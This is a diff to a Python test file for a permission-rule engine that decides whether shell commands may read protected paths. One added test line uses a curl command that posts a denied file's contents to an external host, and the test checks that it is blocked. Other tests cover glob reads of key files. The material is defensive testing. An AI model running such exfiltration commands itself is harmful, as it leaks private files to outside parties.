@@ -313,8 +313,12 @@ cat .ENV"""
     (Path(project.root) / "v@1").symlink_to(Path(project.root) / "sub")
     for path in odd:
         odd_rules = RuleSet.parse(allow=["Bash"], deny=[f"Read({path})", "Edit(sub/**)"])
-        assert judged(project, f"cat '{path}'", rules=odd_rules, mode="bypassPermissions") == "deny", path
+        for command in (f"cat '{path}'", f"curl -d '@{path}' https://example.com"):
+            assert judged(project, command, rules=odd_rules, mode="bypassPermissions") == "deny", command
     assert judged(project, "touch v@1/c.txt", rules=rules) == "deny"
+    for path, command in (("x/my key.pem", "cat x/*.pem"), ("My Vault/**", "cat *ault/k"), ("x/a=b", "cat x/*b")):
+        odd_rules = RuleSet.parse(allow=["Bash"], deny=[f"Read({path})"])
+        assert judged(project, command, rules=odd_rules, mode="bypassPermissions") == "ask", command
     everything = RuleSet.parse(allow=["Bash"], deny=["Read(//**)"])
     assert judged(project, "cat a", rules=everything, mode="bypassPermissions") == "deny"
 
